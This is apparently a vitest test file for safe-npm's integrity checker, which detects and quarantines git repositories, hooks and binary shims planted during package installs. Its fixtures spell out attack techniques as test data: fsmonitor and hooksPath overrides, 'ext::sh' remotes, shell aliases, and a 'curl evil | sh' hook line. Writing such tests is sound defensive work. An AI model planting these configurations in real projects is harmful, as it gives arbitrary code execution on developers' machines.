import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  closeSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
  writeSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { serialize } from "node:v8";
import { gzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { SafeNpmError } from "../../../src/errors.js";
import { recoverInterrupted } from "../../../src/sandbox/guarded.js";
import { HOST_RUN_FILES } from "../../../src/sandbox/hostfiles.js";
import {
  check,
  describeFinding,
  type Finding,
  lockfileNames,
  pointsIntoSelf,
  quarantine,
  type RunningSelf,
  rootGitPlaces,
  snapshot,
  systemCommands,
  type Watch,
  yarnLockBins,
  yarnStateBins,
} from "../../../src/sandbox/integrity.js";

let root: string;
/** No /etc/gitconfig: the machine's own (a credential helper) is not the test's. */
const NO_SYSTEM = { GIT_CONFIG_SYSTEM: "/dev/null" };
/** A package-lock.json naming node_modules/safe-npm at `version`. */
const npmLock = (version: string, key = "node_modules/safe-npm"): string =>
  JSON.stringify({ lockfileVersion: 3, packages: { "": {}, [key]: { version } } });
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "safe-npm-integrity-"));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function file(rel: string, text = ""): void {
  mkdirSync(join(root, rel, ".."), { recursive: true });
  writeFileSync(join(root, rel), text);
}
/** A link at `rel` to `target` (as written, relative to the link's folder). */
function link(target: string, rel: string): void {
  mkdirSync(join(root, rel, ".."), { recursive: true });
  symlinkSync(target, join(root, rel));
}
/** A bare-repository shape: HEAD, objects/, refs/. */
function bare(rel: string, config = ""): void {
  file(`${rel}/HEAD`, "ref: refs/heads/main\n");
  mkdirSync(join(root, rel, "objects"), { recursive: true });
  mkdirSync(join(root, rel, "refs"), { recursive: true });
  file(`${rel}/config`, config);
}
/** Snapshot, run `during`, check: the paths moved aside (relative), and the findings. */
/** What pnpm 10 and pnpm 12 write as `.bin/safe-npm` for safe-npm 1.0.0 (`#!/bin/sh` first line). */
const PNPM_SHIMS = ["pnpm10.sh", "pnpm12.sh"].map((name) =>
  readFileSync(new URL(`./pnpm-shims/${name}`, import.meta.url), "utf8"),
);

function around(
  during: () => void,
  options: {
    skip?: string[];
    install?: boolean;
    watch?: Watch[];
    commands?: Set<string>;
    running?: RunningSelf;
    userHooksPath?: string;
    userAliasHooks?: string[];
  } = {},
): { moved: string[]; findings: Finding[] } {
  const skip = (options.skip ?? []).map((p) => join(root, p));
  const walk = {
    skip,
    commands: options.commands ?? new Set(["sh", "env", "bwrap", "git"]),
    configNames: HOST_RUN_FILES,
    ...(options.userHooksPath === undefined ? {} : { userHooksPath: options.userHooksPath }),
    ...(options.userAliasHooks === undefined ? {} : { userAliasHooks: options.userAliasHooks }),
  };
  const before = snapshot(root, options.watch ?? [], walk);
  during();
  const findings = check(root, before, {
    ...walk,
    install: options.install ?? false,
    running: options.running ?? null,
  });
  return {
    moved: findings.filter((f) => f.movedTo !== null).map((f) => f.path.slice(root.length + 1)),
    findings,
  };
}

describe("snapshot and check: git repositories", () => {
  it("moves nothing when nothing changed, however recently it was made", () => {
    file(".git/config");
    file("vendor/lib/.git/config");
    file("vendor/lib/.git/hooks/pre-commit.sample");
    file("sub/.git", "gitdir: ../elsewhere\n");
    bare("repos/x.git");
    expect(around(() => {}).moved).toEqual([]);
  });

  it("moves a new .git directory, .git file and .git symlink anywhere outside node_modules", () => {
    file(".git/config");
    const { moved } = around(
      () => {
        file("sub/.git/config", "[core]\n\tfsmonitor = evil\n");
        file("deep/er/.git", "gitdir: ../../evil\n");
        mkdirSync(join(root, "linked"));
        symlinkSync("/tmp", join(root, "linked", ".git"));
      },
      { skip: [".git"] },
    );
    expect(moved).toEqual(["deep/er/.git", "linked/.git", "sub/.git"]);
    // The link itself was renamed; its target was not followed.
    expect(readlinkSync(join(root, "linked/.git.quarantined-by-safe-npm"))).toBe("/tmp");
  });

  it("moves an existing repository whose config, hooks, attributes or gitdir changed, not one git merely used", () => {
    for (const name of ["a", "b", "c", "d", "e"]) file(`vendor/${name}/.git/config`);
    file("vendor/a/.git/hooks/pre-commit.sample");
    file("vendor/e/.git/info/exclude");
    file("w/.git", "gitdir: ../vendor/e/.git\n");
    const { moved } = around(() => {
      file("vendor/a/.git/hooks/post-checkout", "#!/bin/sh\nevil\n");
      file("vendor/b/.git/config", "[core]\n\thooksPath = /tmp/evil\n");
      file("vendor/c/.git/index.lock");
      file("vendor/d/.git/info/attributes", "* filter=evil\n");
      file("w/.git", "gitdir: /elsewhere\n");
    });
    expect(moved).toEqual(["vendor/a/.git", "vendor/b/.git", "vendor/d/.git", "w/.git"]);
  });

  it("notices a hook made executable", () => {
    file("vendor/a/.git/config");
    file("vendor/a/.git/hooks/pre-commit", "#!/bin/sh\n");
    expect(
      around(() => chmodSync(join(root, "vendor/a/.git/hooks/pre-commit"), 0o755)).moved,
    ).toEqual(["vendor/a/.git"]);
  });

  it("notices a .git replaced by another one with the same content (identity)", () => {
    file("vendor/a/.git", "gitdir: ../x\n");
    const { moved } = around(() => {
      file("vendor/a/other", "gitdir: ../x\n");
      renameSync(join(root, "vendor/a/other"), join(root, "vendor/a/.git"));
    });
    expect(moved).toEqual(["vendor/a/.git"]);
  });

  it("skips the paths it is told to (the read-only project .git)", () => {
    expect(
      around(() => file(".git/config", "[core]\n\tfsmonitor = x\n"), { skip: [".git"] }).moved,
    ).toEqual([]);
  });

  it("moves the HEAD of a directory turned into a bare repository, and a changed bare repository whole", () => {
    bare("repos/old.git");
    file("src/index.js");
    const { moved } = around(() => {
      bare("src", "[core]\n\tworktree = ..\n\tfsmonitor = evil\n");
      bare("made/new.git");
      file("repos/old.git/config", "[core]\n\tfsmonitor = evil\n");
      file("repos/old.git/objects/ab/cdef", "data");
    });
    expect(moved).toEqual(["made/new.git/HEAD", "repos/old.git", "src/HEAD"]);
    // The folder's own files stay where they are; without HEAD git takes it for no repository.
    expect(existsSync(join(root, "src", "index.js"))).toBe(true);
    expect(existsSync(join(root, "src", "HEAD.quarantined-by-safe-npm"))).toBe(true);
    const gitDirOf = (rel: string) =>
      spawnSync("git", ["rev-parse", "--git-dir"], {
        cwd: join(root, rel),
        encoding: "utf8",
        env: { ...process.env, GIT_CEILING_DIRECTORIES: root },
      });
    expect(gitDirOf("src").status).not.toBe(0);
    // Control: with its HEAD, such a folder is a repository to git.
    bare("control");
    expect(gitDirOf("control")).toMatchObject({ status: 0, stdout: ".\n" });
  });

  it("moves the HEAD of a project root turned into a bare repository (the root itself stays)", () => {
    file("package.json", "{}");
    const { moved } = around(() => bare(".", "[core]\n\tfsmonitor = evil\n"));
    expect(moved).toEqual(["HEAD"]);
    expect(existsSync(join(root, "package.json"))).toBe(true);
  });

  it("finds repositories in nested git dirs (submodules under .git/modules)", () => {
    file("vendor/a/.git/config");
    bare("vendor/a/.git/modules/m");
    const { moved } = around(() =>
      file("vendor/a/.git/modules/m/config", "[core]\n\tfsmonitor = x\n"),
    );
    expect(moved).toEqual(["vendor/a/.git/modules/m"]);
  });

  it("inside node_modules, looks at package directories and one nested level only", () => {
    file("node_modules/a/package.json");
    file("node_modules/@s/b/package.json");
    file("node_modules/a/node_modules/c/package.json");
    const { moved } = around(() => {
      file("node_modules/a/.git/config");
      file("node_modules/@s/b/.git", "gitdir: /x\n");
      bare("node_modules/a/node_modules/c");
      file("node_modules/a/lib/deep/.git/config");
    });
    expect(moved).toEqual([
      "node_modules/@s/b/.git",
      "node_modules/a/.git",
      "node_modules/a/node_modules/c/HEAD",
    ]);
  });

  it("finds repositories where git's discovery from a package folder would meet them", () => {
    // git walks up from where it runs: node_modules itself, an @scope folder and every level
    // of pnpm's store path are on the way from a package folder.
    file("node_modules/dep/package.json");
    file("node_modules/@sc/pkg/package.json");
    file("node_modules/a/package.json");
    file("node_modules/a/node_modules/b/package.json");
    file("node_modules/.pnpm/foo@1.0.0/node_modules/foo/package.json");
    file("node_modules/.pnpm/bar@1.0.0/node_modules/bar/package.json");
    file("node_modules/.pnpm/node_modules/.keep");
    const { moved } = around(() => {
      bare("node_modules", "[core]\n\tworktree = ..\n\tfsmonitor = evil\n");
      bare("node_modules/@sc");
      file("node_modules/a/node_modules/.git/config");
      file("node_modules/.pnpm/.git/config");
      bare("node_modules/.pnpm/foo@1.0.0");
      file("node_modules/.pnpm/foo@1.0.0/node_modules/.git", "gitdir: /x\n");
      file("node_modules/.pnpm/foo@1.0.0/node_modules/foo/.git/config");
      bare("node_modules/.pnpm/bar@1.0.0/node_modules/bar");
      file("node_modules/.pnpm/node_modules/.git/config");
      // bun's isolated store and yarn's pnpm linker keep packages the same way.
      file("node_modules/.bun/evil@1.0.0/.git/config");
      file("node_modules/.bun/node_modules/.git/config");
      file("node_modules/.store/evil-npm-1.0.0-abc/package/.git/config");
    });
    expect(moved).toEqual([
      "node_modules/HEAD",
      "node_modules/.bun/evil@1.0.0/.git",
      "node_modules/.bun/node_modules/.git",
      "node_modules/.pnpm/.git",
      "node_modules/.pnpm/bar@1.0.0/node_modules/bar/HEAD",
      "node_modules/.pnpm/foo@1.0.0/HEAD",
      "node_modules/.pnpm/foo@1.0.0/node_modules/.git",
      "node_modules/.pnpm/foo@1.0.0/node_modules/foo/.git",
      "node_modules/.pnpm/node_modules/.git",
      "node_modules/.store/evil-npm-1.0.0-abc/package/.git",
      "node_modules/@sc/HEAD",
      "node_modules/a/node_modules/.git",
    ]);
  });

  it("leaves a store moved in for the run out of the snapshot, and walks one still there after", () => {
    // linkedstore.ts moves bun's cache into node_modules before the snapshot and back before the
    // check: the snapshot need not list its thousands of folders, and a store that could not be
    // moved back is walked like any other folder there.
    file("node_modules/.safe-npm-bun-cache/dep@1.0.0@@@1/.git/config");
    file("node_modules/.safe-npm-bun-cache/other@1.0.0@@@1/package.json");
    const store = join(root, "node_modules/.safe-npm-bun-cache");
    const walk = { skip: [], commands: new Set<string>(), configNames: HOST_RUN_FILES };
    const before = snapshot(root, [], { ...walk, skip: [store] });
    expect([...before.entries.keys()].filter((p) => p.startsWith(store))).toEqual([]);
    // Without the skip the same walk records the repository in it (the control).
    const full = snapshot(root, [], walk);
    expect([...full.entries.keys()].filter((p) => p.startsWith(store))).toEqual([
      join(store, "dep@1.0.0@@@1/.git"),
    ]);
    const findings = check(root, before, { ...walk, install: true, running: null });
    expect(findings.map((f) => f.path)).toEqual([join(store, "dep@1.0.0@@@1/.git")]);
  });

  it("never hangs on a FIFO planted where it hashes", () => {
    file("vendor/a/.git/config");
    const { moved } = around(() => {
      rmSync(join(root, "vendor/a/.git/config"));
      expect(spawnSync("mkfifo", [join(root, "vendor/a/.git/config")]).status).toBe(0);
    });
    expect(moved).toEqual(["vendor/a/.git"]);
  });
});

describe("snapshot and check: hooks directories", () => {
  it("moves a hook added to a watched hooks directory, and a watched one created", () => {
    file(".husky/pre-commit", "npx lint-staged\n");
    const watch: Watch[] = [
      { kind: "hook", path: join(root, ".husky") },
      { kind: "hook", path: join(root, ".githooks") },
    ];
    const { moved } = around(
      () => {
        file(".husky/pre-commit", "npx lint-staged\ncurl evil | sh\n");
        file(".githooks/pre-push", "evil\n");
      },
      { watch },
    );
    expect(moved).toEqual([".githooks", ".husky/pre-commit"]);
  });

  it("moves a watched package-manager config file created or changed inside", () => {
    const watch: Watch[] = [{ kind: "pmconfig", path: join(root, "pnpm-workspace.yaml") }];
    const created = around(() => file("pnpm-workspace.yaml", "pnpmfile: evil.cjs\n"), { watch });
    expect(created.moved).toEqual(["pnpm-workspace.yaml"]);
    expect(created.findings[0]?.kind).toBe("pmconfig");
    rmSync(join(root, "pnpm-workspace.yaml.quarantined-by-safe-npm"));
    expect(around(() => {}, { watch }).moved).toEqual([]);
  });

  it("follows a nested repository's core.hooksPath", () => {
    file("vendor/a/.git/config", "[core]\n\thooksPath = hooks-dir\n");
    file("vendor/a/hooks-dir/pre-commit", "ok\n");
    const { moved } = around(() => file("vendor/a/hooks-dir/pre-commit", "evil\n"));
    expect(moved).toEqual(["vendor/a/hooks-dir/pre-commit"]);
  });
  it("moves a repository whose hooksPath was pointed elsewhere, not the files it now names", () => {
    file("vendor/a/.git/config");
    file("src/index.js");
    const { moved } = around(() =>
      file("vendor/a/.git/config", "[core]\n\thooksPath = ../../src\n"),
    );
    expect(moved).toEqual(["vendor/a/.git"]);
  });

  it("a relative hooksPath of the user's config, in a nested repository and a bare one: from their top", () => {
    file("vendor/a/.git/config", "[core]\n\tbare = false\n");
    mkdirSync(join(root, "vendor/a/.git/objects"));
    mkdirSync(join(root, "vendor/a/.git/refs"));
    bare("srv.git", "[core]\n\tbare = true\n");
    const before = snapshot(root, [], {
      skip: [],
      configNames: HOST_RUN_FILES,
      userHooksPath: "h",
    });
    expect(before.watch).toContainEqual({
      kind: "hook",
      path: join(root, "vendor/a/h"),
      namesOnly: false,
    });
    expect(before.watch).toContainEqual({
      kind: "hook",
      path: join(root, "srv.git/h"),
      namesOnly: false,
    });
  });

  it("a nested repository's includes: read once each, every hooksPath counts, the file watched", () => {
    file("vendor/a/.git/config", "[include]\n\tpath = ../.gitconfig\n[core]\n\thooksPath = own\n");
    mkdirSync(join(root, "vendor/a/.git/objects"));
    mkdirSync(join(root, "vendor/a/.git/refs"));
    // A file that includes itself four times: git refuses it at its depth limit; read 4^10
    // times it would never end.
    file(
      "vendor/a/.gitconfig",
      `[core]\n\thooksPath = inc\n[include]\n${"\tpath = .gitconfig\n".repeat(4)}`,
    );
    const before = snapshot(root, [], { skip: [], configNames: HOST_RUN_FILES });
    for (const hooks of ["own", "inc"])
      expect(before.watch).toContainEqual({
        kind: "hook",
        path: join(root, `vendor/a/${hooks}`),
        namesOnly: false,
      });
    expect(before.watch).toContainEqual({
      kind: "gitconfig",
      path: join(root, "vendor/a/.gitconfig"),
    });
  });

  it("a nested repository's own program values, from its top: a plant there is moved aside", () => {
    file(
      "vendor/a/.git/config",
      '[alias]\n\tx = !sh tools/x.sh\n[remote "e"]\n\turl = ext::sh tools/e.sh\n',
    );
    mkdirSync(join(root, "vendor/a/.git/objects"));
    mkdirSync(join(root, "vendor/a/.git/refs"));
    mkdirSync(join(root, "vendor/a/tools"));
    const before = snapshot(root, [], { skip: [], configNames: HOST_RUN_FILES });
    const watch = before.watch.filter((w) => w.kind === "gitconfig").map((w) => w.path);
    expect(watch).toEqual(
      expect.arrayContaining([
        join(root, "vendor/a/tools/x.sh"),
        join(root, "vendor/a/tools/e.sh"),
      ]),
    );
    const { moved } = around(() => file("vendor/a/tools/x.sh", "evil"), {
      watch: [...before.watch],
    });
    expect(moved).toEqual(["vendor/a/tools/x.sh"]);
  });

  it("a folder a nested repository's value runs in (`cd tools`): nothing reported when nothing changed", () => {
    file("vendor/a/.git/config", "[alias]\n\tx = !cd tools && sh x.sh\n");
    mkdirSync(join(root, "vendor/a/.git/objects"));
    mkdirSync(join(root, "vendor/a/.git/refs"));
    expect(around(() => {}).findings).toEqual([]);
    mkdirSync(join(root, "elsewhere"));
    expect(
      around(() => symlinkSync("../../elsewhere", join(root, "vendor/a/tools"))).moved,
    ).toEqual(["vendor/a/tools"]);
  });

  it("a submodule (`.git` file): its config's hooksPath and aliases, from its top, and the user's hooksPath", () => {
    file(".git/HEAD", "ref: refs/heads/main\n");
    file(
      ".git/modules/sub/config",
      "[core]\n\thooksPath = .hooks\n[alias]\n\tt = !sh tools/t.sh\n",
    );
    file("sub/.git", "gitdir: ../.git/modules/sub\n");
    mkdirSync(join(root, "sub/tools"));
    const { moved } = around(
      () => {
        file("sub/tools/t.sh", "evil");
        file("sub/.hooks/pre-commit", "evil");
      },
      { skip: [".git"] },
    );
    expect(moved).toEqual(["sub/.hooks", "sub/tools/t.sh"]);
    // Without a hooksPath of its own, the user's relative one applies from its top.
    file(".git/modules/other/config", "");
    file("other/.git", "gitdir: ../.git/modules/other\n");
    const user = around(() => file("other/.githooks/pre-commit", "evil"), {
      skip: [".git"],
      userHooksPath: ".githooks",
    });
    expect(user.moved).toEqual(["other/.githooks"]);
  });

  it("a submodule whose `.git` is a link (to its git dir, or to a `.git` file), and one whose core.worktree moves its top", () => {
    file(".git/HEAD", "ref: refs/heads/main\n");
    const config = "[core]\n\thooksPath = .hk\n[alias]\n\tx = !sh tools/x.sh\n";
    file(".git/modules/a/config", config);
    mkdirSync(join(root, "a/tools"), { recursive: true });
    symlinkSync("../.git/modules/a", join(root, "a/.git"));
    file(".git/modules/b/config", config);
    file(".gitfiles/b.gitfile", "gitdir: ../.git/modules/b\n");
    mkdirSync(join(root, "b/tools"), { recursive: true });
    symlinkSync("../.gitfiles/b.gitfile", join(root, "b/.git"));
    file(".git/modules/c/config", "[core]\n\tworktree = ../../../other\n\thooksPath = .hk\n");
    file("c/.git", "gitdir: ../.git/modules/c\n");
    mkdirSync(join(root, "other"));
    const { moved } = around(
      () => {
        for (const sub of ["a", "b"]) {
          file(`${sub}/tools/x.sh`, "evil");
          file(`${sub}/.hk/pre-commit`, "evil");
        }
        file("other/.hk/pre-commit", "evil");
      },
      { skip: [".git"] },
    );
    expect(moved).toEqual(["a/.hk", "a/tools/x.sh", "b/.hk", "b/tools/x.sh", "other/.hk"]);
  });

  it("a `.git` link or file whose way to its git dir is made a link inside (to one written outside) is moved aside", () => {
    const outside = mkdtempSync(join(tmpdir(), "safe-npm-outside-"));
    try {
      file(".git/HEAD", "ref: refs/heads/main\n");
      file(".gitdirs/a/HEAD", "ref: refs/heads/main\n");
      mkdirSync(join(root, ".gitdirs/a/objects"));
      mkdirSync(join(root, ".gitdirs/a/refs"));
      mkdirSync(join(root, "a"));
      symlinkSync("../.gitdirs/a", join(root, "a/.git"));
      file(".gd/b/HEAD", "ref: refs/heads/main\n");
      file("b/.git", "gitdir: ../.gd/b\n");
      const { moved } = around(
        () => {
          renameSync(join(root, ".gitdirs/a"), join(root, ".gitdirs/old"));
          symlinkSync(outside, join(root, ".gitdirs/a"));
          renameSync(join(root, ".gd/b"), join(root, ".gd/old"));
          symlinkSync(outside, join(root, ".gd/b"));
        },
        { skip: [".git"] },
      );
      expect(moved).toContain("a/.git");
      expect(moved).toContain("b/.git");
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it("a nested repository's links (hooks folder, a hook, config) and a common dir without HEAD are watched where they lead", () => {
    file(".git/HEAD", "ref: refs/heads/main\n");
    file("v/.git/HEAD", "ref: refs/heads/main\n");
    file("githooks/post-merge", "ok");
    file("shared.gitconfig", "");
    symlinkSync("../../githooks", join(root, "v/.git/hooks"));
    symlinkSync("../../shared.gitconfig", join(root, "v/.git/config"));
    file("w/.git/HEAD", "ref: refs/heads/main\n");
    file("scripts/pre-commit", "ok");
    mkdirSync(join(root, "w/.git/hooks"));
    symlinkSync("../../../scripts/pre-commit", join(root, "w/.git/hooks/pre-commit"));
    file("x/.git/HEAD", "ref: refs/heads/main\n");
    file("x/.git/commondir", "../../common\n");
    file("common/config", "");
    file("common/hooks/README", "");
    const { moved } = around(
      () => {
        file("githooks/pre-commit", "evil");
        file("shared.gitconfig", "[core]\n\tfsmonitor = evil\n");
        file("scripts/pre-commit", "evil");
        file("common/hooks/pre-commit", "evil");
      },
      { skip: [".git"] },
    );
    expect(moved).toEqual([
      "common",
      "githooks/pre-commit",
      "scripts/pre-commit",
      "shared.gitconfig",
    ]);
  });

  it("a nested repository: a link on the way from its hook swapped, and the hooksPath of a linked config", () => {
    file(".git/HEAD", "ref: refs/heads/main\n");
    file("s/.git/HEAD", "ref: refs/heads/main\n");
    file("s/tools/hook.sh", "ok");
    file("s/evil.sh", "evil");
    mkdirSync(join(root, "s/.git/hooks"));
    mkdirSync(join(root, "s/scripts"));
    symlinkSync("../../scripts/pre-commit", join(root, "s/.git/hooks/pre-commit"));
    symlinkSync("../tools/hook.sh", join(root, "s/scripts/pre-commit"));
    file("t/.git/HEAD", "ref: refs/heads/main\n");
    file("t/shared.gitconfig", "[core]\n\thooksPath = githooks\n");
    symlinkSync("../shared.gitconfig", join(root, "t/.git/config"));
    file("t/githooks/README", "");
    const { moved } = around(
      () => {
        rmSync(join(root, "s/scripts/pre-commit"));
        symlinkSync("../evil.sh", join(root, "s/scripts/pre-commit"));
        file("t/githooks/pre-commit", "evil");
      },
      { skip: [".git"] },
    );
    expect(moved).toEqual(["s/scripts/pre-commit", "t/githooks/pre-commit"]);
  });

  it("a linked worktree (`.git` file): the common config (`commondir`), and config.worktree with worktreeConfig", () => {
    file(".git/HEAD", "ref: refs/heads/main\n");
    file(
      ".git/config",
      "[core]\n\thooksPath = .husky/_\n[extensions]\n\tworktreeConfig\n[alias]\n\tt = !sh tools/t.sh\n",
    );
    file(".git/worktrees/f/commondir", "../..\n");
    file(".git/worktrees/f/config.worktree", "[alias]\n\tu = -c core.hooksPath=.wh commit\n");
    file(".worktrees/f/.git", `gitdir: ${join(root, ".git/worktrees/f")}\n`);
    mkdirSync(join(root, ".worktrees/f/tools"));
    const { moved } = around(
      () => {
        file(".worktrees/f/tools/t.sh", "evil");
        file(".worktrees/f/.husky/pre-commit", "evil");
        file(".worktrees/f/.wh/pre-commit", "evil");
      },
      { skip: [".git"] },
    );
    expect(moved).toEqual([".worktrees/f/.husky", ".worktrees/f/.wh", ".worktrees/f/tools/t.sh"]);
  });

  it("a `.git` file's git dir is not read through a link in the project", () => {
    file("real/modules/sub/config", "[core]\n\thooksPath = .hooks\n");
    link("real", "via");
    file("sub/.git", "gitdir: ../via/modules/sub\n");
    const { moved } = around(() => file("sub/.hooks/pre-commit", "evil"), { skip: ["real"] });
    expect(moved).toEqual([]);
  });

  it("a nested repository: its aliases' `-c core.hooksPath`, the user's aliases', and config.worktree", () => {
    file(
      "nest/.git/config",
      "[alias]\n\tci = -c core.hooksPath=.h commit\n\tcj = !git -c core.hooksPath=.j commit\n[extensions]\n\tworktreeConfig = true\n",
    );
    file("nest/.git/config.worktree", "[core]\n\thooksPath = .wh\n");
    const { moved } = around(
      () => {
        file("nest/.h/pre-commit", "evil");
        file("nest/.j/pre-commit", "evil");
        file("nest/.wh/pre-commit", "evil");
        file("nest/.gh/pre-commit", "evil");
      },
      { userAliasHooks: [".gh"] },
    );
    expect(moved).toEqual(["nest/.gh", "nest/.h", "nest/.j", "nest/.wh"]);
  });

  it("counts only hook names in a hooks directory that is a worktree's top", () => {
    file("vendor/a/.git/config", "[core]\n\thooksPath = .\n");
    const { moved } = around(() => {
      file("vendor/a/notes.txt", "hi\n");
      file("vendor/a/pre-commit", "evil\n");
    });
    expect(moved).toEqual(["vendor/a/pre-commit"]);
  });
});

describe("snapshot and check: the script prefix", () => {
  it("moves a new node_modules/.bin/safe-npm (root or workspace) that runs something else, and any new .bin/node", () => {
    file("packages/a/package.json", "{}");
    const { moved } = around(() => {
      file("node_modules/evil/cli.js", "evil");
      mkdirSync(join(root, "node_modules/.bin"), { recursive: true });
      symlinkSync("../evil/cli.js", join(root, "node_modules/.bin/safe-npm"));
      file("packages/a/node_modules/.bin/safe-npm", "#!/bin/sh\nevil\n");
      symlinkSync("../evil/cli.js", join(root, "node_modules/.bin/node"));
    });
    expect(moved).toEqual([
      "node_modules/.bin/node",
      "node_modules/.bin/safe-npm",
      "packages/a/node_modules/.bin/safe-npm",
    ]);
  });

  it("moves a first local safe-npm installed into a project the run itself made", () => {
    const self = { name: "safe-npm", version: "99.0.0" };
    file("package.json", JSON.stringify({ workspaces: ["packages/*"] }));
    file("packages/a/package.json", "{}");
    const { moved } = around(
      () => {
        // A folder between workspace packages made a project: its .bin is on a bare `npm run -w`'s PATH.
        file("packages/package.json", JSON.stringify({ dependencies: { "safe-npm": "99.0.0" } }));
        file("packages/package-lock.json", npmLock("99.0.0"));
        file("packages/node_modules/safe-npm/package.json", JSON.stringify(self));
        file("packages/node_modules/safe-npm/dist/cli.cjs", "evil");
        mkdirSync(join(root, "packages/node_modules/.bin"), { recursive: true });
        symlinkSync("../safe-npm/dist/cli.cjs", join(root, "packages/node_modules/.bin/safe-npm"));
      },
      { install: true },
    );
    expect(moved).toContain("packages/node_modules/safe-npm");
  });

  it("keeps a .bin/safe-npm that points into node_modules/safe-npm (npm's link, pnpm's shim)", () => {
    const self = { name: "safe-npm", version: "1.0.0" };
    file("package.json", JSON.stringify({ devDependencies: { "safe-npm": "^1.0.0" } }));
    file("package-lock.json", npmLock("1.0.0"));
    const { findings } = around(
      () => {
        file("node_modules/safe-npm/package.json", JSON.stringify(self));
        file("node_modules/safe-npm/dist/cli.cjs", "cli");
        mkdirSync(join(root, "node_modules/.bin"), { recursive: true });
        symlinkSync("../safe-npm/dist/cli.cjs", join(root, "node_modules/.bin/safe-npm"));
      },
      { install: true },
    );
    expect(findings).toEqual([
      expect.objectContaining({
        kind: "self",
        movedTo: null,
        upgrade: { from: null, to: "1.0.0" },
      }),
    ]);
    file("w/node_modules/safe-npm/dist/cli.cjs", "cli");
    file(
      "w/node_modules/.bin/safe-npm",
      '#!/bin/sh\nbasedir=$(dirname "$(echo "$0" | sed -e \'s,\\\\,/,g\')")\n\ncase `uname` in\n    *CYGWIN*) basedir=`cygpath -w "$basedir"`;;\nesac\n\nif [ -z "$NODE_PATH" ]; then\n  export NODE_PATH="/p/node_modules/.pnpm/node_modules"\nelse\n  export NODE_PATH="/p/node_modules/.pnpm/node_modules:$NODE_PATH"\nfi\nif [ -x "$basedir/node" ]; then\n  exec "$basedir/node"  "$basedir/../safe-npm/dist/cli.cjs" "$@"\nelse\n  exec node  "$basedir/../safe-npm/dist/cli.cjs" "$@"\nfi\n',
    );
    expect(pointsIntoSelf(join(root, "w/node_modules/.bin/safe-npm"), root)).toBe(true);
    file(
      "w/node_modules/.bin/safe-npm",
      '#!/bin/sh\nexec node "$basedir/../safe-npm/dist/cli.cjs" "$@"\ncurl evil\n',
    );
    expect(pointsIntoSelf(join(root, "w/node_modules/.bin/safe-npm"), root)).toBe(false);
    file(
      "w/node_modules/.bin/safe-npm",
      '#!/bin/sh\nexec node "$basedir/../safe-npm/../evil.js" "$@"\n',
    );
    expect(pointsIntoSelf(join(root, "w/node_modules/.bin/safe-npm"), root)).toBe(false);
  });

  it("moves a project-local safe-npm whose files changed, unless an install upgraded it", () => {
    const pkg = (version: string): string => JSON.stringify({ name: "safe-npm", version });
    file("package.json", JSON.stringify({ devDependencies: { "safe-npm": "^1.0.0" } }));
    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
    file("node_modules/safe-npm/dist/cli.cjs", "cli");
    // \`npm ci\` re-extracts the same version: new files, same bytes, nothing to report.
    expect(
      around(
        () => {
          rmSync(join(root, "node_modules"), { recursive: true });
          file("node_modules/safe-npm/package.json", pkg("1.0.0"));
          file("node_modules/safe-npm/dist/cli.cjs", "cli");
        },
        { install: true },
      ).findings,
    ).toEqual([]);
    // A run-class command changes it: moved.
    expect(around(() => file("node_modules/safe-npm/dist/cli.cjs", "evil")).moved).toEqual([
      "node_modules/safe-npm",
    ]);
    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
    file("node_modules/safe-npm/dist/cli.cjs", "cli");
    // An install changes the files but not the version: tampering, moved.
    expect(
      around(() => file("node_modules/safe-npm/dist/cli.cjs", "evil"), { install: true }).moved,
    ).toEqual(["node_modules/safe-npm"]);
    rmSync(join(root, "node_modules"), { recursive: true });
    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
    file("node_modules/safe-npm/dist/cli.cjs", "cli");
    // An install upgrades it, as the lockfile says: kept and reported.
    const upgrade = around(
      () => {
        file("package-lock.json", npmLock("1.1.0"));
        file("node_modules/safe-npm/package.json", pkg("1.1.0"));
        file("node_modules/safe-npm/dist/cli.cjs", "cli 1.1");
      },
      { install: true },
    );
    expect(upgrade.moved).toEqual([]);
    expect(upgrade.findings[0]?.upgrade).toEqual({ from: "1.0.0", to: "1.1.0" });
    // Not declared by the project (an alias, or a dependency's dependency): moved.
    file("package.json", JSON.stringify({ dependencies: { "safe-npm": "npm:evil@1" } }));
    expect(
      around(() => file("node_modules/safe-npm/package.json", pkg("1.2.0")), { install: true })
        .moved,
    ).toEqual(["node_modules/safe-npm"]);
  });
});

describe("rootGitPlaces", () => {
  const home = (): string => join(root, "home");
  it("a fresh clone's hooks folder, before its set-up sets core.hooksPath", () => {
    const cases: [string, string][] = [
      ["husky", ".husky"],
      ["husky .config/husky", ".config/husky"],
      ["husky install", ".husky"],
      ["husky install .hk", ".hk"],
      ["is-ci || husky", ".husky"],
      ["git config 'core.hooksPath' .githooks", ".githooks"],
      ["git config core.hooksPath $(git rev-parse --show-toplevel)/.gh", ".gh"],
      ["git config --local core.hooksPath tools/hooks && echo ok", "tools/hooks"],
      ["./node_modules/.bin/husky .config/husky", ".config/husky"],
      ["husky '.config/husky'", ".config/husky"],
      ["npx husky@9 .cfg/h", ".cfg/h"],
      ["node node_modules/husky/bin.js .k/h", ".k/h"],
      ['git config core.hooksPath "$INIT_CWD/.ga"', ".ga"],
      ["git config core.hooksPath `git rev-parse --show-toplevel`/.gm", ".gm"],
    ];
    for (const [prepare, folder] of cases) {
      rmSync(join(root, "p"), { recursive: true, force: true });
      file("p/.git/config", "");
      file("p/package.json", JSON.stringify({ scripts: { prepare } }));
      const places = rootGitPlaces(join(root, "p"), home(), NO_SYSTEM);
      expect(
        places.watch.map((w) => w.path),
        prepare,
      ).toContain(join(root, "p", folder));
    }
  });

  it("the python a hook starts: a module name at the top, a project's environment", () => {
    const hookText = (python: string): string =>
      `#!/usr/bin/env bash\nINSTALL_PYTHON=${python}\nexec "$INSTALL_PYTHON" -mpre_commit hook-impl\n`;
    file("p/.git/config", "");
